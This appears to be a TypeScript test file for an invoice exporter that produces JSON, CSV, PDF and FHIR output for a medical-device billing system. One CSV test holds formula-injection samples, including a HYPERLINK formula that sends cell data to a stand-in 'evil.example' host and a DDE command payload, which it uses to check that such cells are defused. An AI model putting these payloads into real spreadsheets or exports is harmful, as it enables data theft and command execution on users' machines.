// Invoice documents on real rated invoices: the PRICING.md worked example, a consortium with late
// adjustments (negative lines), a tax-exempt one and a 3,000-line one. CSV parsed back and summed;
// PDF checked by qpdf and read back by pdftotext; FHIR checked by both official validators.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import fc from 'fast-check';
import { Temporal } from 'temporal-polyfill';
import { isBlocking, createFhirValidator } from '../archive/fhir-validate.ts';
import { throwsWith } from '../protocols/testing.ts';
import type { ContractInput } from './contracts.ts';
import { centsToDecimal, type InvoiceDocument, invoiceToCsv, invoiceToFhir, invoiceToJson, invoiceToPdf } from './export.ts';
import { formatEuro, MAX_AMOUNT_CENTS } from './money.ts';
import { type Invoice, rate, type UsageEvent } from './pricing.ts';
import { rateExample, readWorkedExample } from './testing.ts';

const SCRATCH = new URL('../.scratch/', import.meta.url).pathname;
mkdirSync(SCRATCH, { recursive: true });
const dir = mkdtempSync(join(SCRATCH, 'billing-export-'));
after(() => rmSync(dir, { recursive: true, force: true }));

// ---------------------------------------------------------------------------------------------
// Invoices

const ROME = 'Europe/Rome';
const at = (local: string, tz = ROME): number => Temporal.PlainDateTime.from(local).toZonedDateTime(tz).epochMilliseconds;

const workedExample = (): Invoice => rateExample(readWorkedExample());

function scans(tenantId: string, n: number, fromLocal: string, deviceId: string, prefix: string): UsageEvent[] {
  const start = at(fromLocal);
  return Array.from({ length: n }, (_, i) => ({
    idempotencyKey: `${prefix}${String(i + 1).padStart(3, '0')}`,
    tenantId,
    deviceId,
    acquisitionUid: `1.2.3.${prefix.length}.${i + 1}`,
    occurredAtMs: start + i * 3_600_000,
    billable: true,
  }));
}

/** A consortium device and a commitment whose February true-up late scans reverse: negative lines. */
function consortiumWithLateUsage(): Invoice {
  const t = 'asl-consorzio';
  const contracts: ContractInput[] = [
    {
      id: 'cons-1',
      tenantId: t,
      deviceId: 'robot-c',
      validFrom: '2026-01-01',
      validTo: null,
      model: {
        kind: 'consortium',
        parties: [
          { partyId: 'clinic-a', name: 'Clinica A' },
          { partyId: 'clinic-b', name: 'Clinica B' },
        ],
        weekdays: { mon: 'clinic-a', tue: 'clinic-b', wed: 'clinic-a', thu: 'clinic-b', fri: 'clinic-a', sat: 'clinic-b', sun: 'clinic-a' },
        monthlyFeeCents: 100_000,
        pricing: { scheme: 'graduated', tiers: [{ upTo: 3, unitPriceCents: 3000 }, { upTo: null, unitPriceCents: 2500 }] },
      },
    },
    { id: 'commit-1', tenantId: t, deviceId: 'robot-d', validFrom: '2026-01-01', validTo: null, model: { kind: 'commitment', pricing: { scheme: 'flat', unitPriceCents: 2000 }, minimumScans: 10 } },
  ];
  const billedUsage = scans(t, 9, '2026-02-02T08:00', 'robot-d', 'feb');
  const lateUsage = scans(t, 3, '2026-02-20T08:00', 'robot-d', 'late');
  return rate({
    tenant: { tenantId: t, tax: { kind: 'rate', rateBps: 2200, label: 'IVA' } },
    period: '2026-03',
    contracts,
    usage: [...scans(t, 6, '2026-03-02T08:00', 'robot-c', 'cons'), ...scans(t, 10, '2026-03-03T08:00', 'robot-d', 'mar')],
    late: [{ period: '2026-02', billedUsage, lateUsage }],
  });
}

/** `devices` leases, two scans each with one included: fee, included and overage lines, 3 per device. */
function manyLines(devices: number): Invoice {
  const t = 'osp-grande';
  const contracts: ContractInput[] = [];
  const usage: UsageEvent[] = [];
  for (let d = 0; d < devices; d++) {
    const deviceId = `robot-${String(d).padStart(4, '0')}`;
    contracts.push({ id: `lease-${d}`, tenantId: t, deviceId, validFrom: '2026-01-01', validTo: null, model: { kind: 'lease', monthlyFeeCents: 150_000 + d, includedScans: 1, overageUnitPriceCents: 1999 } });
    usage.push(...scans(t, 2, `2026-03-${String((d % 28) + 1).padStart(2, '0')}T09:00`, deviceId, `${deviceId}/`));
  }
  return rate({ tenant: { tenantId: t, tax: { kind: 'rate', rateBps: 2200, label: 'IVA' } }, period: '2026-03', contracts, usage });
}

const EXAMPLE = workedExample();
const ISSUED_AT = at('2026-04-02T10:15');
const issued = (invoice: Invoice, withHash = true): InvoiceDocument => {
  const d: InvoiceDocument = { invoice, status: 'issued', number: `INV-${invoice.tenantId}-${invoice.period}`, issuedAtMs: ISSUED_AT };
  // As invoices.ts issues it: the hash of the invoice's JSON as rate() built it.
  return withHash ? { ...d, sha256: createHash('sha256').update(JSON.stringify(invoice)).digest('hex') } : d;
};
const open = (invoice: Invoice): InvoiceDocument => ({ invoice, status: 'open' });

// ---------------------------------------------------------------------------------------------
// Money as decimals

const trimmedDecimal = (s: string): string => s.replace(/\.?0+$/, '');

function checkDecimal(cents: number): void {
  const formatted = formatEuro(cents);
  // An independent oracle: toFixed prints the double nearest cents/100 exactly, far from a tie.
  assert.equal(formatted, (cents / 100).toFixed(2));
  const v = centsToDecimal(cents);
  assert.equal(Math.round(v * 100), cents);
  assert.equal(JSON.stringify({ value: v }), `{"value":${trimmedDecimal(formatted)}}`);
  assert.equal(String(v), trimmedDecimal(formatted));
}

void test('money: the FHIR decimal prints as the exact euro string, for every cent of ±1000 EUR and random amounts up to the cap', () => {
  for (let c = -100_000; c <= 100_000; c++) checkDecimal(c);
  fc.assert(
    fc.property(fc.integer({ min: -MAX_AMOUNT_CENTS, max: MAX_AMOUNT_CENTS }), (c) => checkDecimal(c)),
    { numRuns: 20_000, examples: [[MAX_AMOUNT_CENTS], [-MAX_AMOUNT_CENTS], [MAX_AMOUNT_CENTS - 1], [1], [-1], [10], [-5], [0]] },
  );
  assert.equal(formatEuro(-5), '-0.05');
  assert.equal(formatEuro(123_456), '1234.56');
  assert.equal(formatEuro(Number.MAX_SAFE_INTEGER), '90071992547409.91');
  throwsWith(() => formatEuro(0.5), 'ECO3D_ERR_NOT_FINITE');
});

// ---------------------------------------------------------------------------------------------
// JSON

void test('JSON: canonical, newline-terminated, in the order rate() builds, whatever the key order it is given', () => {
  const doc = issued(EXAMPLE);
  const json = invoiceToJson(doc);
  assert.ok(json.endsWith('}\n') && !json.slice(0, -1).includes('\n'), 'one line, newline-terminated');
  assert.deepEqual(JSON.parse(json), JSON.parse(JSON.stringify(doc)));
  assert.ok(json.startsWith('{"status":"issued","number":"INV-osp-roma-2026-03","issuedAtMs":'), 'status, number, issuedAtMs first');
  assert.ok(json.includes(`"invoice":${JSON.stringify(EXAMPLE)}}`), 'the invoice part is byte-identical to rate()');
  // As a jsonb column gives it back: keys reordered at every level.
  const reversed = (v: unknown): unknown =>
    Array.isArray(v) ? v.map(reversed) : v !== null && typeof v === 'object' ? Object.fromEntries(Object.entries(v).reverse().map(([k, x]) => [k, reversed(x)])) : v;
  assert.equal(invoiceToJson(reversed(doc) as InvoiceDocument), json);
  // The hash the PDF prints can be checked on the `invoice` member of this JSON.
  const member = json.slice(json.indexOf('"invoice":') + '"invoice":'.length, -2);
  assert.equal(doc.sha256, createHash('sha256').update(member).digest('hex'));
  assert.ok(invoiceToJson(open(EXAMPLE)).startsWith('{"status":"open","invoice":{'), 'an open document has no number');
});

void test('documents that do not add up or contradict their status are refused', () => {
  const doc = issued(EXAMPLE, false);
  const lines = EXAMPLE.lines;
  throwsWith(() => invoiceToJson({ ...doc, invoice: { ...EXAMPLE, totals: { ...EXAMPLE.totals, subtotalCents: 1 } } }), 'ECO3D_ERR_BAD_REQUEST', 'subtotalCents');
  throwsWith(() => invoiceToCsv({ ...doc, invoice: { ...EXAMPLE, lines: lines.slice(1) } }), 'ECO3D_ERR_BAD_REQUEST', 'subtotalCents');
  throwsWith(() => invoiceToCsv({ ...doc, invoice: { ...EXAMPLE, lines: lines.slice(0, -1) } }), 'ECO3D_ERR_BAD_REQUEST', 'tax line');
  throwsWith(() => invoiceToFhir({ ...doc, invoice: { ...EXAMPLE, lines: [lines[0]!, ...lines] } }, {}), 'ECO3D_ERR_BAD_REQUEST', 'duplicate line code');
  throwsWith(() => invoiceToFhir({ ...doc, invoice: { ...EXAMPLE, lines: [{ ...lines[0]!, amountCents: 0.5 }, ...lines.slice(1)] } }, {}), 'ECO3D_ERR_BAD_REQUEST', 'lines[0].amountCents');
  throwsWith(() => invoiceToJson({ ...doc, number: undefined }), 'ECO3D_ERR_BAD_REQUEST', 'doc.number');
  throwsWith(() => invoiceToJson({ ...doc, issuedAtMs: Number.NaN }), 'ECO3D_ERR_NOT_FINITE', 'doc.issuedAtMs');
  throwsWith(() => invoiceToJson({ ...doc, sha256: 'ABC' }), 'ECO3D_ERR_BAD_REQUEST', 'doc.sha256');
  throwsWith(() => invoiceToJson({ ...open(EXAMPLE), number: 'INV-1' }), 'ECO3D_ERR_BAD_REQUEST', 'doc.number');
  throwsWith(() => invoiceToFhir(doc, { baseUrl: 'fhir' }), 'ECO3D_ERR_BAD_REQUEST', 'opts.baseUrl');
});

// ---------------------------------------------------------------------------------------------
// CSV

/** RFC 4180, strictly: CRLF between records, quotes doubled inside quoted fields. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i += 1;
      } else {
        field += ch;
        i += 1;
      }
    } else if (ch === '"') {
      assert.equal(field, '', `a quote inside an unquoted field at ${i}`);
      quoted = true;
      i += 1;
    } else if (ch === ',') {
      row.push(field);
      field = '';
      i += 1;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      assert.ok(ch !== '\r' && ch !== '\n', `a bare line break outside quotes at ${i}`);
      field += ch;
      i += 1;
    }
  }
  assert.ok(!quoted && field === '' && row.length === 0, 'the last record ends with CRLF');
  return rows;
}

function csvRecords(doc: InvoiceDocument): Record<string, string>[] {
  const [header, ...rows] = parseCsv(invoiceToCsv(doc));
  assert.deepEqual(header, ['number', 'status', 'tenantId', 'period', 'code', 'description', 'contractId', 'deviceId', 'partyId', 'quantity', 'unitAmountCents', 'amountCents', 'amountEuro', 'rule', 'tier', 'eventCount', 'formula']);
  for (const r of rows) assert.equal(r.length, header.length);
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]!])));
}

void test('CSV: one row per line then SUBTOTAL, TAX, TOTAL; the cells add up to the totals', () => {
  for (const doc of [issued(EXAMPLE), open(consortiumWithLateUsage()), issued(manyLines(50))]) {
    const inv = doc.invoice;
    const recs = csvRecords(doc);
    const lines = recs.slice(0, -3);
    const [sub, tax, total] = recs.slice(-3);
    assert.deepEqual(
      recs.map((r) => r.code),
      [...inv.lines.map((l) => l.code), 'SUBTOTAL', 'TAX', 'TOTAL'],
    );
    assert.deepEqual([sub!.rule, tax!.rule, total!.rule], ['', '', '']);
    for (const r of recs) {
      assert.deepEqual([r.number, r.status, r.tenantId, r.period], [doc.number ?? '', doc.status, inv.tenantId, inv.period]);
      assert.match(r.amountCents!, /^-?\d+$/);
      assert.equal(r.amountEuro, formatEuro(Number(r.amountCents)));
    }
    const cents = (rs: Record<string, string>[]): number => rs.reduce((s, r) => s + Number(r.amountCents), 0);
    const charges = lines.filter((r) => r.rule !== 'tax' && r.rule !== 'tax-exempt');
    assert.equal(cents(charges), Number(sub!.amountCents));
    assert.equal(cents(lines), Number(total!.amountCents));
    assert.deepEqual([Number(sub!.amountCents), Number(tax!.amountCents), Number(total!.amountCents)], [inv.totals.subtotalCents, inv.totals.taxCents, inv.totals.totalCents]);
    lines.forEach((r, i) => {
      const l = inv.lines[i]!;
      assert.equal(Number(r.quantity), l.quantity);
      assert.equal(r.unitAmountCents, l.unitAmountCents === undefined ? '' : String(l.unitAmountCents));
      assert.equal(r.tier, l.explanation.tier === undefined ? '' : String(l.explanation.tier));
      assert.equal(r.formula, l.explanation.formula);
      assert.equal(r.partyId, l.partyId ?? '');
    });
  }
  // The example: 762.50 EUR, the SLA credit a plain negative number.
  const recs = csvRecords(issued(EXAMPLE));
  assert.equal(recs.at(-1)!.amountEuro, '762.50');
  const sla = recs.find((r) => r.code === 'RISK/risk-2/sla-credit')!;
  assert.deepEqual([sla.amountCents, sla.amountEuro], ['-1000', '-10.00']);
  // Late adjustments: a negative amount (the reversed true-up) stays a number too.
  const adj = csvRecords(open(consortiumWithLateUsage())).find((r) => r.code === 'ADJ/2026-02/COMMIT/commit-1/true-up')!;
  assert.equal(adj.amountCents, '-2000');
  assert.equal(adj.number, '');
});

void test('CSV: formula injection in text cells is defused; numbers are left alone; RFC 4180 quoting', () => {
  const inv = rate({
    tenant: { tenantId: 'osp-x', tax: { kind: 'rate', rateBps: 2200, label: '=HYPERLINK("http://evil.example/?x="&A1,"VAT")' } },
    period: '2026-03',
    contracts: [{ id: 'c1', tenantId: 'osp-x', deviceId: 'd1', validFrom: '2026-01-01', validTo: null, model: { kind: 'pay-per-scan', pricing: { scheme: 'flat', unitPriceCents: 2500 } } }],
    usage: scans('osp-x', 2, '2026-03-02T08:00', 'd1', 's'),
  });
  const [first, tax] = inv.lines;
  const evil = ['=1+2', '+SUM(A1:A9)', '-2+3+cmd|" /C calc"!A0', '@SUM(A1)', '\t=x', '\r=y', '＝1+1', 'line one\nline "two", with comma'];
  for (const description of evil) {
    const doc = open({ ...inv, lines: [{ ...first!, description }, tax!] });
    const csv = invoiceToCsv(doc);
    const rec = csvRecords(doc);
    const expected = description.startsWith('line') ? description : `'${description}`;
    assert.equal(rec[0]!.description, expected);
    if (description.startsWith('line')) assert.ok(csv.includes('"line one\nline ""two"", with comma"'), csv);
    if (description.startsWith('\r')) assert.ok(csv.includes(`,"'\r=y",`), csv);
  }
  const recs = csvRecords(open(inv));
  assert.ok(recs[1]!.description!.startsWith(`'=HYPERLINK("http://evil.example/`), 'the tax label is defused');
  assert.ok(recs.find((r) => r.code === 'TAX' && r.rule === '')!.description!.startsWith("'="), 'the TAX total row is defused');
  // A negative credit in the numeric columns stays a number (no apostrophe).
  const credit = open({
    ...inv,
    lines: [{ ...first!, quantity: -2, amountCents: -5000, unitAmountCents: 2500 }, { ...tax!, amountCents: -1100 }],
    totals: { subtotalCents: -5000, taxCents: -1100, totalCents: -6100 },
  });
  const [line] = csvRecords(credit);
  assert.deepEqual([line!.quantity, line!.amountCents, line!.amountEuro], ['-2', '-5000', '-50.00']);
  assert.ok(invoiceToCsv(credit).includes(',-2,2500,-5000,-50.00,'), 'negative numbers stay numbers');
});

// ---------------------------------------------------------------------------------------------
// PDF

function pdfFile(name: string, bytes: Buffer): string {
  const path = join(dir, name);
  writeFileSync(path, bytes);
  const check = spawnSync('qpdf', ['--check', path], { encoding: 'utf8' });
  assert.equal(check.status, 0, `qpdf --check ${name}: ${check.stdout}${check.stderr}`);
  return path;
}
const pdfText = (path: string): string => execFileSync('pdftotext', ['-layout', path, '-'], { encoding: 'utf8', maxBuffer: 64 << 20 });
const pdfInfo = (path: string): Record<string, string> =>
  Object.fromEntries(
    execFileSync('pdfinfo', [path], { encoding: 'utf8' })
      .split('\n')
      .filter((l) => l.includes(':'))
      .map((l) => [l.slice(0, l.indexOf(':')), l.slice(l.indexOf(':') + 1).trim()]),
  );
const squash = (s: string): string => s.replace(/\s+/g, ' ');
/** What the PDF can show in standard Helvetica (WinAnsi): the minus sign becomes a hyphen, the arrow `->`. */
const shown = (s: string): string => squash(s.replaceAll('−', '-').replaceAll('→', '->'));

void test('PDF: the issued worked example passes qpdf, and its text has the number, every code and formula, the totals and the hash', async () => {
  const doc = issued(EXAMPLE);
  const path = pdfFile('example.pdf', await invoiceToPdf(doc));
  const raw = pdfText(path);
  const text = squash(raw);
  for (const s of ['Eco3D', 'Invoice', 'INV-osp-roma-2026-03', 'osp-roma', '2026-03 (2026-03-01 to 2026-03-31)', 'Europe/Rome', '2026-04-02 10:15 (Europe/Rome)', '27 billable, 1 not billable']) {
    assert.ok(text.includes(s), `lacks ${s}`);
  }
  assert.ok(!text.includes('preview'), 'an issued invoice is no preview');
  for (const l of EXAMPLE.lines) {
    assert.ok(text.includes(l.code), `lacks code ${l.code}`);
    assert.ok(text.includes(shown(l.explanation.formula)), `lacks formula ${l.explanation.formula}`);
  }
  assert.match(raw, /Subtotal\s+625\.00/);
  assert.match(raw, /Tax: IVA 22%\s+137\.50/);
  assert.match(raw, /Total EUR\s+762\.50/);
  assert.match(raw, /RISK\/risk-2\/sla-credit.*\s-10\.00\n/);
  assert.ok(text.includes('Amounts in integer euro cents, each line rounded once half up (billing/PRICING.md)'), 'the rounding note');
  assert.ok(text.includes(`SHA-256 of the issued invoice JSON: ${doc.sha256!}`), 'the hash');
  const info = pdfInfo(path);
  assert.equal(info.Pages, '1');
  assert.match(info['Page size']!, /\(A4\)/);
  assert.equal(info.Title, 'Invoice INV-osp-roma-2026-03');
  assert.equal(Date.parse(info.CreationDate!), ISSUED_AT);
});

void test('PDF: an open period is a preview without number or hash, dated at the period end', async () => {
  const inv = consortiumWithLateUsage();
  const path = pdfFile('preview.pdf', await invoiceToPdf(open(inv)));
  const text = squash(pdfText(path));
  assert.ok(text.includes('Invoice preview (open period, not issued)'), 'the preview title');
  assert.ok(!text.includes('SHA-256') && !text.includes('INV-'), 'no hash, no number');
  for (const l of inv.lines) {
    assert.ok(text.includes(l.code), `lacks code ${l.code}`);
    assert.ok(text.includes(shown(l.explanation.formula)), `lacks formula ${l.explanation.formula}`);
  }
  assert.ok(text.includes(`Total EUR ${formatEuro(inv.totals.totalCents)}`), 'the total');
  assert.equal(Date.parse(pdfInfo(path).CreationDate!), inv.periodEndMs);
});

void test('PDF: 3,000 lines paginate without overflowing, every code present; the same document gives the same bytes', async (t) => {
  const inv = manyLines(1000);
  assert.equal(inv.lines.length, 3001);
  const doc = issued(inv);
  const t0 = performance.now();
  const bytes = await invoiceToPdf(doc);
  const ms = performance.now() - t0;
  const path = pdfFile('long.pdf', bytes);
  const pages = Number(pdfInfo(path).Pages);
  assert.ok(pages > 1, 'more than one page');
  const raw = pdfText(path);
  const text = squash(raw);
  for (const l of inv.lines) assert.ok(text.includes(` ${l.code} `), `lacks code ${l.code}`);
  // Each page ends with its footer: nothing was written into it or beyond it.
  const pageTexts = raw.split('\f').filter((p) => p.trim() !== '');
  assert.equal(pageTexts.length, pages);
  pageTexts.forEach((p, i) => {
    const tail = p.trimEnd().split('\n').slice(-3).join('\n');
    assert.match(tail, new RegExp(`Page ${i + 1} of ${pages}`));
    assert.match(tail, /SHA-256 of the issued invoice JSON: [0-9a-f]{64}$/);
  });
  assert.ok(text.includes(`Total EUR ${formatEuro(inv.totals.totalCents)}`), 'the total');
  // pdfkit takes the file ID from the info dictionary (whose CreationDate we set): byte-identical.
  const again = await invoiceToPdf(doc);
  assert.ok(again.equals(bytes), 'two runs give identical bytes');
  const small = issued(EXAMPLE);
  assert.ok((await invoiceToPdf(small)).equals(await invoiceToPdf(small)), 'deterministic bytes');
  assert.ok(!(await invoiceToPdf({ ...small, issuedAtMs: ISSUED_AT + 1000 })).equals(await invoiceToPdf(small)), 'the creation date is in the bytes');
  t.diagnostic(`3001 lines: ${pages} pages, ${bytes.length} bytes in ${ms.toFixed(0)} ms`);
});

void test('PDF: characters outside the standard fonts are replaced, not written as broken codes', async () => {
  const inv = rate({
    tenant: { tenantId: 'osp-gr', tax: { kind: 'rate', rateBps: 2400, label: 'ΦΠΑ € 😀' } },
    period: '2026-03',
    contracts: [{ id: 'c1', tenantId: 'osp-gr', deviceId: 'd1', validFrom: '2026-01-01', validTo: null, model: { kind: 'pay-per-scan', pricing: { scheme: 'flat', unitPriceCents: 2500 } } }],
    usage: scans('osp-gr', 1, '2026-03-02T08:00', 'd1', 's'),
  });
  const text = squash(pdfText(pdfFile('unicode.pdf', await invoiceToPdf(open(inv)))));
  assert.ok(text.includes('??? € ? 24%'), text);
});

// ---------------------------------------------------------------------------------------------
// FHIR

const validator = createFhirValidator({ inWorker: false });
async function assertValid(r: { resourceType: string; id?: string }): Promise<void> {
  const issues = (await validator.validate(r)).filter(isBlocking);
  assert.deepEqual(issues, [], `${r.resourceType}/${r.id}: ${JSON.stringify(issues, null, 1)}`);
}

const cents = (m: { value?: number } | undefined): number => Math.round(m!.value! * 100);

void test('FHIR: Invoice and ChargeItems pass both validators; base amounts sum to totalNet, net + tax = gross', async () => {
  assert.deepEqual(validator.kinds, ['json-schema', 'structure-definitions']);
  for (const doc of [issued(EXAMPLE), open(EXAMPLE), open(consortiumWithLateUsage()), issued(manyLines(20))]) {
    const inv = doc.invoice;
    const { invoice, chargeItems } = invoiceToFhir(doc, {});
    await assertValid(invoice);
    for (const ci of chargeItems) await assertValid(ci);
    const charges = inv.lines.filter((l) => l.code !== 'TAX');
    assert.equal(chargeItems.length, charges.length);
    const items = invoice.lineItem ?? [];
    assert.deepEqual(
      items.map((li) => li.sequence),
      charges.map((_, i) => i + 1),
    );
    items.forEach((li, i) => {
      assert.equal(li.chargeItemReference!.reference, `ChargeItem/${chargeItems[i]!.id!}`);
      assert.deepEqual(li.priceComponent, [{ type: 'base', amount: { value: centsToDecimal(charges[i]!.amountCents), currency: 'EUR' } }]);
    });
    const net = items.reduce((s, li) => s + cents(li.priceComponent![0]!.amount), 0);
    assert.equal(net, inv.totals.subtotalCents);
    assert.equal(cents(invoice.totalNet), net);
    const tax = invoice.totalPriceComponent!.find((p) => p.type === 'tax')!;
    assert.equal(cents(tax.amount), inv.totals.taxCents);
    assert.equal(cents(invoice.totalGross), cents(invoice.totalNet) + cents(tax.amount));
    assert.equal(cents(invoice.totalGross), inv.totals.totalCents);
    assert.equal(invoice.status, doc.status === 'issued' ? 'issued' : 'draft');
    assert.deepEqual(invoice.recipient, { type: 'Organization', identifier: { system: 'urn:eco3d:tenant', value: inv.tenantId }, display: `Tenant ${inv.tenantId}` });
    assert.deepEqual(invoice.identifier, doc.status === 'issued' ? [{ system: 'urn:eco3d:invoice', value: doc.number }] : undefined);
    assert.equal(invoice.date, doc.status === 'issued' ? new Date(ISSUED_AT).toISOString() : undefined);
    chargeItems.forEach((ci, i) => {
      const l = charges[i]!;
      assert.equal(ci.status, doc.status === 'issued' ? 'billed' : 'billable');
      assert.deepEqual(ci.code, { coding: [{ system: 'urn:eco3d:billing-rule', code: l.explanation.rule }], text: `${l.code} (${l.explanation.rule})` });
      assert.deepEqual(ci.subject, { type: 'Group', identifier: { system: 'urn:eco3d:tenant', value: inv.tenantId }, display: `Tenant ${inv.tenantId}` });
      assert.equal(ci.quantity!.value, l.quantity);
      assert.equal(cents(ci.priceOverride), l.amountCents);
      assert.ok(ci.note!.some((n) => n.text.includes(l.explanation.formula)), 'the formula is in a note');
      assert.equal(ci.context, undefined);
      assert.equal(ci.extension, undefined);
    });
    assert.equal(new Set(chargeItems.map((c) => c.id)).size, chargeItems.length);
  }
  // The example's money as JSON text: exact decimals.
  const { invoice, chargeItems } = invoiceToFhir(issued(EXAMPLE), {});
  assert.equal(JSON.stringify(invoice.totalGross), '{"value":762.5,"currency":"EUR"}');
  assert.equal(JSON.stringify(chargeItems.find((c) => c.code.text!.startsWith('RISK/risk-2/sla-credit'))!.priceOverride), '{"value":-10,"currency":"EUR"}');
  assert.deepEqual(chargeItems[0]!.occurrencePeriod, { start: '2026-03-01T00:00:00+01:00', end: '2026-03-31T23:59:59+02:00' });
});

void test('FHIR: ids are deterministic FHIR ids, one per tenant and period; a base URL makes references absolute', async () => {
  const a = invoiceToFhir(issued(EXAMPLE), {});
  const b = invoiceToFhir(open(EXAMPLE), {});
  assert.equal(a.invoice.id, 'inv-osp-roma-2026-03');
  assert.equal(b.invoice.id, a.invoice.id, 'the preview becomes the issued invoice');
  assert.deepEqual(
    b.chargeItems.map((c) => c.id),
    a.chargeItems.map((c) => c.id),
  );
  const ID = /^[A-Za-z0-9\-.]{1,64}$/;
  // Tenant ids may hold _ : @ / and run to 128 characters.
  const ids = new Set<string>();
  for (const tenantId of ['osp-roma', 'osp_roma', 'osp:roma', 'osp/roma', 'a'.repeat(60), 'a'.repeat(128), `${'a'.repeat(127)}b`, 'inv-x']) {
    for (const period of ['2026-03', '2026-04']) {
      const inv = { ...EXAMPLE, tenantId, period };
      const { invoice, chargeItems } = invoiceToFhir(open(inv), {});
      assert.match(invoice.id!, ID);
      for (const c of chargeItems) assert.match(c.id!, ID);
      ids.add(invoice.id!);
      if (tenantId === 'osp_roma' && period === '2026-03') await assertValid(invoice);
    }
  }
  assert.equal(ids.size, 16, 'no two tenants or periods share an id');
  const abs = invoiceToFhir(issued(EXAMPLE), { baseUrl: 'https://eco3d.example/fhir/' });
  assert.equal(abs.invoice.lineItem![0]!.chargeItemReference!.reference, `https://eco3d.example/fhir/ChargeItem/${abs.chargeItems[0]!.id!}`);
  await assertValid(abs.invoice);
  // An exempt tenant: the reason is the tax component's text, at zero.
  const exempt = rate({
    tenant: { tenantId: 'osp-esente', tax: { kind: 'exempt', reason: 'Art. 10 DPR 633/72 (prestazioni sanitarie)' } },
    period: '2026-03',
    contracts: [{ id: 'c1', tenantId: 'osp-esente', deviceId: 'd1', validFrom: '2026-01-01', validTo: null, model: { kind: 'pay-per-scan', pricing: { scheme: 'flat', unitPriceCents: 2500 } } }],
    usage: scans('osp-esente', 2, '2026-03-02T08:00', 'd1', 's'),
  });
  const e = invoiceToFhir(issued(exempt), {});
  await assertValid(e.invoice);
  assert.deepEqual(e.invoice.totalPriceComponent![1], { type: 'tax', code: { text: 'Exempt: Art. 10 DPR 633/72 (prestazioni sanitarie)' }, amount: { value: 0, currency: 'EUR' } });
  // No usage at all: no line items (FHIR arrays are never empty), still valid.
  const empty = rate({ tenant: { tenantId: 'osp-vuoto', tax: { kind: 'rate', rateBps: 2200 } }, period: '2026-03', contracts: [], usage: [] });
  const z = invoiceToFhir(open(empty), {});
  assert.equal(z.invoice.lineItem, undefined);
  assert.deepEqual(z.chargeItems, []);
  await assertValid(z.invoice);
});
